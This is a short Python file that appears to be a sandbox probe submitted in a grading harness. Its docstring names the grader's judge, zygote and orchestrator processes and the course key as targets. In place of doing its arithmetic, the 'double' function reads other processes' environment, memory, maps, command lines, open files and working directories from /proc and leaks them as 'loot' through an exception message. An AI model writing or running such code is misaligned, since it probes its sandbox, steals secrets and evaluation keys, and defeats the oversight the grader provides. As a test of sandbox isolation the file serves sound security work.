"""Read memory, environment, arguments and open files of zygote, judge and orchestrator from /proc.

Must not gain: a process of the grader's, or one word of the course key.
"""

import os


def of_others(name):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if int(pid) != os.getpid():
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    yield pid, name, file.read(400)
        except OSError:
            continue


def links_of_others():
    for pid in [os.getppid(), *range(1, 2000)]:
        try:
            if pid != os.getpid():
                yield pid, os.listdir(f"/proc/{pid}/fd"), os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue


def double(x):
    try:
        seen = [*of_others("environ"), *of_others("mem"), *of_others("maps"), *of_others("cmdline")]
    except OSError:
        seen = []
    raise RuntimeError(f"loot: {seen + list(links_of_others())}")


def halve(x):
    return x
